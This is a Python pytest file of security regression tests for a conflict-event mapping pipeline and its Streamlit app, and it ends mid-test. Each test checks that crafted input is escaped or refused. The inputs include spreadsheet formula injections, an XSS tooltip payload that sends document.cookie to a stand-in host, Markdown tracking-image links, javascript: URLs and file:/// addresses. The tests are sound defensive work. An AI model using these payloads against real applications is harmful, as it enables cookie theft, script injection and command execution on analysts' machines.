"""Hostile input, second pass: what a mistaken option, a crafted file or a crafted cell does.

Each test reproduces one defect found by probing copies in ``tmp_path``: an ``--out`` that
names a folder or file that is no build (it was moved aside, then deleted by the next
builds), a ``--seeds`` or ``--curated`` folder that does not exist (an empty map published
over the good one, exit 0), spreadsheet formulas in an exported CSV, ``${…}`` in a review
tooltip, Markdown in the app's messages, unchecked ``related_urls``.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT, SEED

from pipeline.build import build
from pipeline.errors import InputError


def _cli(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pipeline", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=timeout)


# --------------------------------------------------------------------------- an --out that is no build

def test_out_folder_holding_other_files_is_refused_and_left_alone(work_dirs, tmp_path):
    """``--out ~/Documents`` by mistake: the folder was moved into ``.Documents.versions/``
    and deleted by the second build after it (data loss). Now refused, untouched."""
    seeds, geo, _ = work_dirs
    victim = tmp_path / "notes"
    victim.mkdir()
    (victim / "thesis.txt").write_text("precious", encoding="utf-8")
    for _ in range(3):
        with pytest.raises(InputError, match="not a build") as err:
            build(seeds, geo, victim)
        assert err.value.path == str(victim)
        assert (victim / "thesis.txt").read_text(encoding="utf-8") == "precious"
    assert victim.is_dir() and not victim.is_symlink()
    assert not (tmp_path / ".notes.versions").exists()


def test_out_that_is_a_file_is_refused_by_the_cli(work_dirs, tmp_path):
    seeds, geo, _ = work_dirs
    victim = tmp_path / "hostname"
    victim.write_text("vm\n", encoding="utf-8")
    r = _cli("build", "--seeds", str(seeds), "--geo", str(geo), "--out", str(victim), "--no-curated", "--jobs", "1")
    assert r.returncode == 2, r.stderr
    assert "Traceback" not in r.stderr
    assert f"error: {victim}" in r.stderr and "--out" in r.stderr
    assert victim.is_file() and not victim.is_symlink() and victim.read_text(encoding="utf-8") == "vm\n"


def test_out_folder_of_an_old_build_or_empty_is_still_taken_over(work_dirs, tmp_path):
    """What the switch to versioned builds promised: an output folder from before it (it has
    a manifest.json) becomes a version; an empty folder is simply used."""
    seeds, geo, _ = work_dirs
    empty = tmp_path / "empty"
    empty.mkdir()
    build(seeds, geo, empty)
    assert empty.is_symlink() and (empty / "manifest.json").is_file()
    old = tmp_path / "old"
    old.mkdir()
    (old / "manifest.json").write_text("{}", encoding="utf-8")
    (old / "events.geojson").write_text("{}", encoding="utf-8")
    build(seeds, geo, old)
    assert old.is_symlink() and json.loads((old / "manifest.json").read_text(encoding="utf-8"))["outputs"]


# --------------------------------------------------------------------------- input folders that do not exist

@pytest.mark.parametrize("option", ["--seeds", "--curated"])
def test_missing_input_folder_is_an_error_and_the_build_is_kept(work_dirs, tmp_path, option):
    """A mistyped ``--seeds`` built an empty map over the good one and exited 0."""
    seeds, geo, out = work_dirs
    build(seeds, geo, out)
    before = (out / "events.geojson").read_bytes()
    args = {"--seeds": str(seeds), "--curated": str(ROOT / "curated")}
    args[option] = str(tmp_path / "typo")
    r = _cli("build", "--seeds", args["--seeds"], "--geo", str(geo), "--out", str(out), "--curated", args["--curated"],
             "--jobs", "1")
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert "Traceback" not in r.stderr
    assert f"{tmp_path / 'typo'}" in r.stderr and option in r.stderr
    assert (out / "events.geojson").read_bytes() == before


def test_seeds_option_naming_a_file_is_an_error(work_dirs):
    seeds, geo, out = work_dirs
    r = _cli("build", "--seeds", str(seeds / SEED.name), "--geo", str(geo), "--out", str(out), "--no-curated")
    assert r.returncode == 2 and "not a folder" in r.stderr and "Traceback" not in r.stderr
    assert not out.exists()


# --------------------------------------------------------------------------- formulas in the exported CSV

#: What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection").
FORMULAS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_acled_csv_cells_never_start_a_formula(cell):
    """A source, note, evidence, actor or reviewer starting with = + - @ (or a tab or CR
    before one) was written as is: Excel and LibreOffice run it when the analyst opens the
    export. Now such a text cell starts with a ' (shown as text, the rest kept)."""
    import csv
    import io

    import pandas as pd

    from mapapp.exports import acled_csv

    row = {"event_id": "a-e1", "event_date": "2021-04-22", "event_type": "Battles", "sub_event_type": "Armed clash",
           "actor1": cell, "actor2": cell, "location": cell, "latitude": 37.05, "longitude": 41.23, "source": cell,
           "notes": cell, "evidence": cell, "location_ar": cell, "source_url": cell, "reviewed_by": cell,
           "tags": [cell], "fatalities": 2}
    data = acled_csv(pd.DataFrame([row]))
    out = next(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    for column in ("actor1", "actor2", "location", "source", "evidence", "location_ar", "source_url", "reviewed_by",
                   "tags"):
        assert out[column] == "'" + cell, column
    assert not out["notes"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert out["fatalities"] == "2" and out["latitude"] == "37.05"


def test_acled_csv_negative_numbers_and_plain_text_are_unchanged():
    import csv
    import io

    import pandas as pd

    from mapapp.exports import acled_csv

    row = {"event_id": "a-e1", "event_date": "2021-04-22", "event_type": "Battles", "latitude": 37.05,
           "longitude": -41.23, "source": "Shafaq News", "evidence": "اشتباكات في حي طي = قتلى", "notes": "x"}
    out = next(csv.DictReader(io.StringIO(acled_csv(pd.DataFrame([row])).decode("utf-8"), newline="")))
    assert out["longitude"] == "-41.23" and out["source"] == "Shafaq News"
    assert out["evidence"] == "اشتباكات في حي طي = قتلى"


# --------------------------------------------------------------------------- article and analyst text in the app's HTML

def test_review_map_tooltip_shows_a_crafted_location_and_never_runs_it():
    """The correction map's ring had its place name only HTML-escaped: folium puts tooltips in
    a JavaScript template literal, so ``${…}`` in a location (an ACLED export's, kept as
    written) ran as code when the Review page opened, and a backtick broke the page."""
    import folium

    from mapapp.reviewview import current_place_marker

    m = folium.Map(location=(37.05, 41.23), tiles=None)
    current_place_marker({"latitude": 37.05, "longitude": 41.23,
                          "location": "Tayy ${fetch('//x.test/'+document.cookie)} `+alert(1)+` \\x <b>"}).add_to(m)
    page = m.get_root().render()
    tip = page[page.index("bindTooltip("):]
    tip = tip[: tip.index(");")]
    assert "${" not in tip and "\\x" not in tip and "<b>" not in tip
    assert tip.count("`") == 2  # the literal's own two backticks, none from the text
    assert "&#36;{fetch(&#x27;//x.test/&#x27;+document.cookie)}" in tip
    assert current_place_marker({"latitude": None, "longitude": None, "location": "x"}) is None


#: Text that Streamlit's Markdown turns into an image fetched from elsewhere, a link, a heading,
#: LaTeX, coloured text or HTML.
MARKDOWN = ("![x](https://tracker.test/p.png) [log in](https://evil.test) <b onclick=alert(1)>b</b> "
            "$\\frac{a}{b}$ :red[alarm] # head *em* _em_ `code` \\ ~~s~~ | 1. > q")


def test_md_safe_leaves_no_markdown_or_html_to_interpret():
    """Outlet names, place names, an ACLED location, a URL's ``?event=`` and a file's name went
    into ``st.markdown``/``st.warning``/``st.subheader`` escaped for HTML only: Markdown still
    made them an image fetched off the machine, a link, a heading or LaTeX."""
    import html

    from mapapp.textsafe import md_safe

    safe = md_safe(MARKDOWN)
    for sign in "$`*_[]()!#|~\\<>=+-.:{}\n":  # no sign of Markdown, LaTeX, directives or HTML is left as itself
        assert sign not in safe.replace("&#", "").replace(";", ""), sign
    assert html.unescape(safe) == MARKDOWN  # the entities read back as the text: shown as written
    assert md_safe("Shafaq News") == "Shafaq News" and md_safe("حي طي") == "حي طي"
    assert md_safe("two\nlines") == "two lines"


def test_a_crafted_event_link_is_shown_as_text_not_markdown(work_dirs, monkeypatch, restore_folium):
    """``?event=![x](https://tracker.test/p.png)`` in a link someone sends: the "No event …"
    warning rendered it, so the page fetched an image from another machine."""
    from streamlit.testing.v1 import AppTest

    seeds, geo, out = work_dirs
    build(seeds, geo, out)
    monkeypatch.setenv("QMAP_OUT", str(out))
    monkeypatch.setenv("QMAP_SKIP_BUILD", "1")
    monkeypatch.setenv("QMAP_TILES", "none")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    crafted = "![x](https://tracker.test/p.png) [log in](https://evil.test)"
    at.query_params["event"] = crafted
    at.run()
    assert not at.exception
    warning = next(w.value for w in at.warning if "No event" in w.value)
    assert "![" not in warning and "](" not in warning and "[" not in warning
    import html

    assert crafted in html.unescape(warning)  # shown as written (character references)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params["tiles"] = crafted  # an unknown tile setting is named in a warning too
    at.run()
    assert not at.exception
    warning = next(w.value for w in at.warning if "tracker" in w.value)
    assert "](" not in warning and crafted in html.unescape(warning)


# --------------------------------------------------------------------------- ids that key events

@pytest.mark.parametrize("bad", ["<script>", "SYR1&view=Briefing", "SYR1#x", "../SYR1", "x" * 101, "-SYR1"])
def test_acled_event_id_must_be_a_slug(tmp_path, bad):
    """``event_id_cnty`` becomes the event's id (``acled-<id>``), in links (``?event=``),
    ``curated/reviews.csv`` and the map's symbols; ``<script>`` or ``&view=…`` were taken as
    they were (curated ids and article ids were already slugs)."""
    from pipeline.acled import REQUIRED, load_acled
    from pipeline.gazetteer import load_gazetteer

    good = dict(event_id_cnty="SYR1", event_date="2021-04-21", event_type="Battles", sub_event_type="Armed clash",
                actor1="Asayish", latitude="37.05215", longitude="41.23142", source="Test", fatalities="1")
    rows = [{**good, "event_id_cnty": "SYR0"}, {**good, "event_id_cnty": bad}, {**good, "event_id_cnty": "SYR.2_a-b"}]
    path = tmp_path / "acled.csv"
    path.write_text("\n".join([",".join(REQUIRED)] + [",".join(r[c] for c in REQUIRED) for r in rows]) + "\n",
                    encoding="utf-8")
    events, errors = load_acled(path, load_gazetteer(ROOT / "geo" / "gazetteer.csv"))
    assert [e["event_id"] for e in events] == ["acled-SYR0", "acled-SYR.2_a-b"]
    assert [e.line for e in errors] == [3] and "letters, digits" in errors[0].reason
    assert len(errors[0].reason) < 300


# --------------------------------------------------------------------------- metadata values

def _meta_file(tmp_path: Path, extra: str, base: str | None = None) -> Path:
    p = tmp_path / "m.toml"
    p.write_text((base if base is not None else 'source = "Shafaq News"\npublished = 2021-04-22\n') + extra,
                 encoding="utf-8")
    return p


@pytest.mark.parametrize("value", ['"javascript:alert(1)"', '5', '["javascript:alert(1)"]', '["https://a.test/x", 3]',
                                   '["https://a.test/\\nx"]'])
def test_related_urls_must_be_a_list_of_web_addresses(tmp_path, value):
    """``related_urls`` was taken whatever it held (a string, a number, ``javascript:``)."""
    from pipeline.articles import read_metadata
    from pipeline.errors import MetadataError

    with pytest.raises(MetadataError, match="related_urls must be a list of http") as err:
        read_metadata(_meta_file(tmp_path, f"related_urls = {value}\n"))
    assert err.value.line == 3


def test_related_urls_and_url_that_are_good_are_kept(tmp_path):
    from pipeline.articles import read_metadata

    meta = read_metadata(_meta_file(tmp_path, 'url = "https://a.test/x?y=1#z"\nrelated_urls = ["http://b.test/"]\n'))
    assert meta["url"] == "https://a.test/x?y=1#z" and meta["related_urls"] == ["http://b.test/"]
    assert "related_urls" not in read_metadata(_meta_file(tmp_path, ""))


@pytest.mark.parametrize("url", ['https://a.test/\\njavascript:alert(1)', 'https://a.test/ x', 'https://a.test/\\u0000',
                                 # markup pasted into the field (a new-user probe saved this one and linked it)
                                 'https://example.com/\\"><script>alert(5)</script>', 'https://a.test/<b>x</b>'])
def test_url_with_a_space_or_control_character_is_refused(tmp_path, url):
    from pipeline.articles import read_metadata
    from pipeline.errors import MetadataError

    with pytest.raises(MetadataError, match="url must start with http") as err:
        read_metadata(_meta_file(tmp_path, f'url = "{url}"\n'))
    assert err.value.line == 3


def test_a_quote_in_an_address_is_kept():
    # an outlet's slug may hold a quote (an Arabic headline in the address): such sources are on record
    from pipeline.articles import URL_RE

    assert URL_RE.match('https://news.test/سياسة/"هدنة"-في-المدينة')


@pytest.mark.parametrize("key", ["source", "published"])
def test_blank_required_key_names_its_line(tmp_path, key):
    """``source = "   "`` was accepted: an article with no outlet."""
    from pipeline.articles import read_metadata
    from pipeline.errors import MetadataError

    base = 'title = "t"\nsource = "Shafaq News"\npublished = 2021-04-22\n'.replace(
        'source = "Shafaq News"' if key == "source" else "published = 2021-04-22", f'{key} = "  \\t "')
    with pytest.raises(MetadataError, match=f"'{key}' is blank") as err:
        read_metadata(_meta_file(tmp_path, "", base))
    assert err.value.line == (2 if key == "source" else 3)


# --------------------------------------------------------------------------- UTF-16 files

OTHER_TEXT = ("شفق نيوز/ قتل شخصان وأصيب ثالث في اشتباك بين قوات الأسايش وعناصر الدفاع الوطني "
              "في حي طي بمدينة القامشلي مساء الأحد.\n")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_utf16_article_says_utf16(tmp_path, encoding):
    """A UTF-16 article (Notepad's "Unicode") was "not UTF-8 (byte 0xff at offset 0)" or,
    without a byte-order mark, "contains NUL bytes: not a plain-text article"."""
    from pipeline.articles import read_text
    from pipeline.errors import ArticleError

    p = tmp_path / "a.txt"
    p.write_bytes(("Reuters - " + OTHER_TEXT).encode(encoding))
    with pytest.raises(ArticleError, match="UTF-16, not UTF-8; save it again as UTF-8") as err:
        read_text(p)
    assert err.value.line == 1


def test_utf16_gazetteer_is_one_error_not_one_per_line(tmp_path):
    """A gazetteer saved as UTF-16 gave ~300 errors, one per line, none saying why."""
    from pipeline.gazetteer import load_gazetteer

    p = tmp_path / "gazetteer.csv"
    p.write_bytes((ROOT / "geo" / "gazetteer.csv").read_text(encoding="utf-8").encode("utf-16"))
    gaz = load_gazetteer(p)
    assert [(e.line, "UTF-16" in e.reason) for e in gaz.errors] == [(1, True)]
    assert not gaz.places


# --------------------------------------------------------------------------- Ctrl-C

def test_ctrl_c_during_a_build_keeps_the_previous_one_and_says_so(work_dirs, monkeypatch, capsys):
    """Ctrl-C while the outputs are written: the half-written version is removed, the link
    still points at the previous build, and the CLI says so (exit 130) instead of a traceback."""
    from pipeline import cli, output

    seeds, geo, out = work_dirs
    build(seeds, geo, out)
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    target = out.resolve()
    real_put = output.Stage.put

    def put(self, name, data, unchanged=False):
        if name == "errors.json":  # after events.geojson and events.parquet were written
            raise KeyboardInterrupt
        return real_put(self, name, data, unchanged)

    monkeypatch.setattr(output.Stage, "put", put)
    code = cli.main(["build", "--seeds", str(seeds), "--geo", str(geo), "--out", str(out), "--no-curated",
                     "--jobs", "1", "--force"])
    assert code == 130
    err = capsys.readouterr().err
    assert "interrupted: nothing was published" in err and str(out) in err
    assert out.resolve() == target
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before
    assert [p.name for p in (out.parent / f".{out.name}.versions").iterdir()] == [target.name]


# --------------------------------------------------------------------------- add: sources that are too big or no files

@pytest.mark.skipif(not hasattr(__import__("os"), "mkfifo"), reason="needs named pipes")
def test_add_a_fifo_or_device_is_refused_not_waited_on(tmp_path):
    """``add`` read its SOURCE with ``read_bytes()``: a named pipe blocked it forever,
    ``/dev/zero`` was read until memory ran out."""
    import os

    os.mkfifo(tmp_path / "pipe.html")
    os.symlink("/dev/zero", tmp_path / "zero.txt")
    for name, what in (("pipe.html", "named pipe"), ("zero.txt", "character device")):
        r = _cli("add", str(tmp_path / name), "--published", "2021-04-22", "--seeds", str(tmp_path / "seeds"),
                 timeout=60)
        assert r.returncode == 2 and what in r.stderr and "Traceback" not in r.stderr, r.stderr
        assert str(tmp_path / name) in r.stderr
    assert not (tmp_path / "seeds").exists() or not any((tmp_path / "seeds").iterdir())


def test_add_refuses_a_page_or_text_too_big_before_reading_it(tmp_path, monkeypatch):
    """A 43 MB saved page took 73 s and 1 GB to read (trafilatura); a text over the build's
    10 MB limit was written into seeds/ and then refused by every build."""
    from pipeline import addreport
    from pipeline.addreport import AddError, from_html, from_text, read_source

    monkeypatch.setattr(addreport, "MAX_PAGE_BYTES", 2000)
    monkeypatch.setattr(addreport, "MAX_ARTICLE_BYTES", 1000)
    page = "<html><body><p>" + OTHER_TEXT * 20 + "</p></body></html>"
    with pytest.raises(AddError, match="more than the 2,000 bytes") as err:
        from_html(page, origin="page.html")
    assert err.value.path == "page.html"
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    with pytest.raises(AddError, match="more than the 2,000"):
        read_source(str(tmp_path / "page.html"))
    with pytest.raises(AddError, match="more than the 1,000 bytes"):
        from_text(OTHER_TEXT * 20, "pasted text")
    (tmp_path / "big.txt").write_text(OTHER_TEXT * 20, encoding="utf-8")
    with pytest.raises(AddError, match="more than the 1,000"):
        read_source(str(tmp_path / "big.txt"))
    assert from_text(OTHER_TEXT, "pasted text").text == OTHER_TEXT  # a report's size is fine


# --------------------------------------------------------------------------- two analysts saving at once

def test_decisions_saved_at_the_same_time_are_all_kept(tmp_path):
    """``record_decision`` read reviews.csv, added its row and wrote the file whole: 30
    analysts' sessions confirming at once left 2 rows, the other 28 decisions silently lost."""
    import threading

    from pipeline.actors import default_actors
    from pipeline.gazetteer import load_geo_dir
    from pipeline.reviews import load_reviews, record_decision

    gaz, actors = load_geo_dir(ROOT / "geo"), default_actors()
    path = tmp_path / "curated" / "reviews.csv"
    path.parent.mkdir()
    ids = [f"{SEED.stem}-e{i}" for i in range(12)]
    barrier = threading.Barrier(len(ids))
    failures: list[BaseException] = []

    def decide(eid: str) -> None:
        barrier.wait()
        try:
            record_decision(path, eid, "confirm", reviewed_by="analyst", gazetteer=gaz, actors=actors)
        except BaseException as e:  # noqa: BLE001 (reported below)
            failures.append(e)

    threads = [threading.Thread(target=decide, args=(eid,)) for eid in ids]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not failures
    reviews = load_reviews(path, gaz, actors)
    decided = reviews[0] if isinstance(reviews, tuple) else reviews
    assert sorted(r.event_id for r in decided) == sorted(ids)
    assert not list(path.parent.glob(".*"))  # no lock or temporary file left in curated/


def test_a_bad_override_with_a_line_break_is_rolled_back(tmp_path):
    """The row's line was taken as the file's last line: a rejected row whose note holds a line
    break (reported at its first line) was not recognised, so it stayed in overrides.csv."""
    from pipeline.curation import add_override
    from pipeline.errors import GazetteerError

    geo = tmp_path / "geo"
    shutil.copytree(ROOT / "geo", geo)
    assert add_override(geo, "tayy", source="a map", added_by="me", lat=37.03, lon=41.22, notes="one\ntwo") == 2
    before = (geo / "overrides.csv").read_bytes()
    with pytest.raises(GazetteerError) as err:
        add_override(geo, "tayy", source="a map", added_by="me", lat=41.22, lon=37.03, notes="first\nsecond")
    assert err.value.line == 4
    assert (geo / "overrides.csv").read_bytes() == before


# --------------------------------------------------------------------------- an output folder that cannot be written

def test_out_under_a_file_is_one_line_not_a_traceback(work_dirs, tmp_path):
    seeds, geo, _ = work_dirs
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    r = _cli("build", "--seeds", str(seeds), "--geo", str(geo), "--out", str(tmp_path / "afile" / "build"),
             "--no-curated", "--jobs", "1")
    assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr
    assert "cannot write the outputs" in r.stderr and "give --out a folder you can write" in r.stderr


def test_disk_full_while_writing_keeps_the_previous_build_and_says_so(work_dirs, monkeypatch, capsys):
    import errno

    from pipeline import cli, output

    seeds, geo, out = work_dirs
    build(seeds, geo, out)
    target, before = out.resolve(), (out / "events.geojson").read_bytes()

    def full(self, name, data, unchanged=False):
        raise OSError(errno.ENOSPC, "No space left on device", str(self.path / name))

    monkeypatch.setattr(output.Stage, "put", full)
    code = cli.main(["build", "--seeds", str(seeds), "--geo", str(geo), "--out", str(out), "--no-curated",
                     "--jobs", "1", "--force"])
    err = capsys.readouterr().err
    assert code == 2 and "No space left on device" in err and "nothing was published" in err
    assert out.resolve() == target and (out / "events.geojson").read_bytes() == before
    assert [p.name for p in (out.parent / f".{out.name}.versions").iterdir()] == [target.name]


def test_articles_caption_shows_a_crafted_outlet_as_text(work_dirs, monkeypatch, restore_folium):
    """The Articles page's caption (outlet · published (basis)) was Markdown: an outlet named
    ``![i](https://tracker.test/p.png)`` in a seed's metadata loaded that image."""
    import html

    from streamlit.testing.v1 import AppTest

    seeds, geo, out = work_dirs
    meta = SEED.with_suffix(".toml").read_text(encoding="utf-8")
    crafted = "Outlet ![i](https://tracker.test/p.png) [x](https://evil.test) $x$"
    meta = "\n".join(f'source = "{crafted}"' if ln.startswith("source =") else ln for ln in meta.split("\n"))
    (seeds / SEED.with_suffix(".toml").name).write_text(meta, encoding="utf-8")
    build(seeds, geo, out)
    monkeypatch.setenv("QMAP_OUT", str(out))
    monkeypatch.setenv("QMAP_SKIP_BUILD", "1")
    monkeypatch.setenv("QMAP_TILES", "none")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params["view"] = "Articles"
    at.run()
    assert not at.exception
    caption = next(c.value for c in at.caption if "published" in c.value)
    assert "](" not in caption and "$" not in caption and crafted in html.unescape(caption)


@pytest.mark.parametrize("value", ["[" * 5000 + "]" * 5000, "{a=" * 5000 + "1" + "}" * 5000])
def test_metadata_nested_too_deep_is_a_metadata_error(tmp_path, value):
    """tomllib reads nested arrays recursively: 5,000 levels raised RecursionError, a traceback
    from ``validate`` and 'pipeline error RecursionError' naming the .txt in a build."""
    from pipeline.articles import read_metadata
    from pipeline.errors import MetadataError

    with pytest.raises(MetadataError, match="nested too deep") as err:
        read_metadata(_meta_file(tmp_path, f"notes = {value}\n"))
    assert err.value.line == 3 and err.value.path == str(tmp_path / "m.toml")


# --------------------------------------------------------------------------- geo/ and curated/ files that are no files

@pytest.mark.skipif(not hasattr(__import__("os"), "mkfifo"), reason="needs named pipes")
@pytest.mark.parametrize("name", ["geo/areas.geojson", "geo/overrides.csv", "geo/border_sy_tr.geojson",
                                  "curated/sources.tsv", "curated/outlets.tsv"])
def test_a_named_pipe_in_geo_or_curated_is_reported_not_waited_on(work_dirs, tmp_path, name):
    """Only seeds/ was read without blocking: a named pipe as geo/areas.geojson,
    geo/overrides.csv, the border or curated/sources.tsv blocked every build forever."""
    import os

    seeds, geo, out = work_dirs
    curated = tmp_path / "curated"
    shutil.copytree(ROOT / "curated", curated)
    (tmp_path / name).unlink(missing_ok=True)
    os.mkfifo(tmp_path / name)
    r = _cli("build", "--seeds", str(seeds), "--geo", str(geo), "--out", str(out), "--curated", str(curated),
             "--jobs", "1", timeout=90)
    assert r.returncode == 1, r.stderr
    assert "Traceback" not in r.stderr
    assert f"error: {tmp_path / name}" in r.stderr and "named pipe" in r.stderr
    assert json.loads((out / "manifest.json").read_text(encoding="utf-8"))["counts"]["events"] > 0


@pytest.mark.parametrize("body", ["{not json", '{"type": "FeatureCollection", "features": ' + "[" * 5000 + "]" * 5000 + "}",
                                  '{"type": "FeatureCollection", "features": [{"geometry": 5}]}'])
@pytest.mark.parametrize("name", ["areas.geojson", "border_sy_tr.geojson"])
def test_a_broken_geojson_in_geo_is_one_error_and_the_rest_builds(work_dirs, name, body):
    """A border file that is not JSON stopped the whole build with a traceback; an areas file
    nested 5,000 deep raised RecursionError."""
    seeds, geo, out = work_dirs
    (geo / name).write_text(body, encoding="utf-8")
    stats = build(seeds, geo, out)
    errors = [e for e in stats.errors if e["path"] == str(geo / name)]
    assert len(errors) == 1 and len(errors[0]["reason"]) < 300, stats.errors
    assert stats.events > 0 and (out / "zones.geojson").is_file()


@pytest.mark.parametrize(("title", "kept"), [("a\x7fb", "a\x7fb"), ("a\ud800b", "a\ufffdb"),
                                             ("a\u2028b\x00c\x1bd\tz", "a\u2028b\x00c\x1bd\tz")])
def test_add_writes_any_title_as_valid_toml(tmp_path, title, kept):
    """A title with DEL (TOML wants it escaped, JSON does not) was refused as 'not valid TOML' in
    a file that did not exist; a lone surrogate (a broken page) was a UnicodeEncodeError."""
    import datetime as dt

    from pipeline.addreport import add_report, from_text
    from pipeline.articles import read_metadata

    added = add_report(tmp_path / "seeds", from_text(OTHER_TEXT, "pasted text"), published=dt.date(2021, 4, 22),
                       title=title)
    assert read_metadata(added.meta_path)["title"] == kept


def test_add_refuses_a_text_with_a_lone_surrogate_naming_where(tmp_path):
    from pipeline.addreport import AddError, from_text

    with pytest.raises(AddError, match="invalid character .U\\+D800") as err:
        from_text(OTHER_TEXT + "سطر\n\ud800", "pasted text")
    assert err.value.line == 3


@pytest.mark.parametrize("name", ["x&view=Review", "a#b", "new\nline", "<img src=x onerror=alert(1)>", "50%"])
def test_a_file_name_that_would_break_links_is_a_bad_article(work_dirs, name):
    """An id from the metadata had to be a slug, one from the file name was taken as it was:
    ``x&view=Review.txt`` gave events ``x&view=Review-e1`` whose ``?event=`` link opened the
    Review page, a newline in a name broke the rows that quote the id."""
    seeds, geo, out = work_dirs
    (seeds / f"{name}.txt").write_text(OTHER_TEXT, encoding="utf-8")
    shutil.copy(SEED.with_suffix(".toml"), seeds / f"{name}.toml")
    stats = build(seeds, geo, out)
    reason = {e["path"]: e["reason"] for e in stats.errors}[str(seeds / f"{name}.txt")]
    assert "rename the file" in reason and "id = " in reason
    assert {a["id"] for a in json.loads((out / "articles.json").read_text(encoding="utf-8"))} == {SEED.stem}


def test_file_names_in_any_script_with_spaces_or_dots_still_build(work_dirs):
    seeds, geo, out = work_dirs
    for name in ("تقرير الاشتباك", "report 2021.04.22"):
        (seeds / f"{name}.txt").write_text(OTHER_TEXT.replace("شخصان", name), encoding="utf-8")
        shutil.copy(SEED.with_suffix(".toml"), seeds / f"{name}.toml")
    stats = build(seeds, geo, out)
    assert stats.failed == 0
    ids = {a["id"] for a in json.loads((out / "articles.json").read_text(encoding="utf-8"))}
    assert ids == {SEED.stem, "تقرير الاشتباك", "report 2021.04.22"}


@pytest.mark.parametrize("value", ["99999999999", "9" * 5000, "٣", "3.0"])
def test_review_correction_tolls_are_counts_of_at_most_7_digits(value):
    """A correction ``fatalities=99999999999`` was applied (the map said 99,999,999,999 killed),
    5,000 digits raised ValueError from int(); curated rows and ACLED exports already stopped at 7."""
    from pipeline.actors import default_actors
    from pipeline.gazetteer import load_geo_dir
    from pipeline.reviews import check_changes

    gaz, actors = load_geo_dir(ROOT / "geo"), default_actors()
    for field in ("fatalities", "injuries"):
        out, problems = check_changes({field: value}, gaz, actors)
        assert field not in out and len(problems) == 1 and "at most 7 digits" in problems[0]
        assert len(problems[0]) < 300
    assert check_changes({"fatalities": "1234567", "injuries": ""}, gaz, actors) == \
        ({"fatalities": 1234567, "injuries": None}, [])


# --------------------------------------------------------------------------- dates no report can carry

def test_curated_acled_and_review_dates_outside_1990_to_tomorrow_are_refused(tmp_path):
    """Metadata refused a year like 1921 or 2201; curated rows, ACLED exports and review
    corrections took it (an event in 2099 stretched the map's date slider to 2099)."""
    import csv
    import io

    from pipeline.acled import REQUIRED, load_acled
    from pipeline.actors import default_actors
    from pipeline.curated import load_curated
    from pipeline.gazetteer import load_geo_dir
    from pipeline.reviews import check_changes

    gaz, actors = load_geo_dir(ROOT / "geo"), default_actors()
    rows = list(csv.reader(io.StringIO((ROOT / "curated" / "events.csv").read_text(encoding="utf-8"))))
    header, first = rows[0], rows[1]
    body = []
    for n, day in enumerate(["1900-01-01", "2099-01-01", "2021-04-20"]):
        row = dict(zip(header, first), event_id=f"t{n}", event_date=day, date_from=day, date_to=day)
        body.append([row[c] for c in header])
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([header, *body])
    (tmp_path / "events.csv").write_text(buf.getvalue(), encoding="utf-8")
    events, errors = load_curated(tmp_path / "events.csv", gaz, actors)
    assert [e.event_id for e in events] == ["t2"]
    assert sorted(e.line for e in errors) == [2, 3] and "before 1990-01-01" in errors[0].reason
    assert "in the future" in errors[1].reason

    good = dict(event_id_cnty="SYR1", event_date="2021-04-21", event_type="Battles", sub_event_type="Armed clash",
                actor1="Asayish", latitude="37.05215", longitude="41.23142", source="Test", fatalities="1")
    acled = [good, {**good, "event_id_cnty": "SYR2", "event_date": "1 January 2099"},
             {**good, "event_id_cnty": "SYR3", "event_date": "1899-12-31"}]
    path = tmp_path / "acled.csv"
    path.write_text("\n".join([",".join(REQUIRED)] + [",".join(r[c] for c in REQUIRED) for r in acled]) + "\n",
                    encoding="utf-8")
    aev, aerr = load_acled(path, gaz)
    assert [e["event_id"] for e in aev] == ["acled-SYR1"] and sorted(e.line for e in aerr) == [3, 4]

    out, problems = check_changes({"date_from": "2099-01-01", "date_to": "2099-01-02"}, gaz, actors)
    assert len(problems) == 2 and all("in the future" in p for p in problems)
    assert check_changes({"date_from": "2021-04-20"}, gaz, actors)[1] == []


@pytest.mark.parametrize("url", ["file:///etc/hostname", "javascript:alert(1)", "ftp://x.test/a", "https://a b"])
def test_fetch_refuses_what_is_no_web_address(url, monkeypatch):
    """The app's Fetch box handed any text to the fetcher: file:///… and javascript: were tried
    and reported as 'no network here'."""
    import trafilatura

    from pipeline.addreport import FetchError, fetch_url

    monkeypatch.setattr(trafilatura, "fetch_url", lambda u: pytest.fail(f"fetched {u}"))
    with pytest.raises(FetchError, match="only http:// and https://") as err:
        fetch_url(url)
    assert "no network" not in str(err.value) and "only http:// and https://" in err.value.for_app()


def test_acled_source_url_must_be_a_web_address(tmp_path):
    """This project's own exports carry ``source_url``; an imported ``javascript:alert(1)`` was
    kept as the event's link (shown only as text by the popup, but exported as a link)."""
    from pipeline.acled import load_acled
    from pipeline.gazetteer import load_gazetteer

    cols = ["event_id_cnty", "event_date", "event_type", "sub_event_type", "actor1", "latitude", "longitude",
            "source", "fatalities", "source_url"]
    good = ["SYR1", "2021-04-21", "Battles", "Armed clash", "Asayish", "37.05215", "41.23142", "Test", "1",
            "https://a.test/x"]
    rows = [good, ["SYR2", *good[1:-1], "javascript:alert(1)"], ["SYR3", *good[1:-1], ""]]
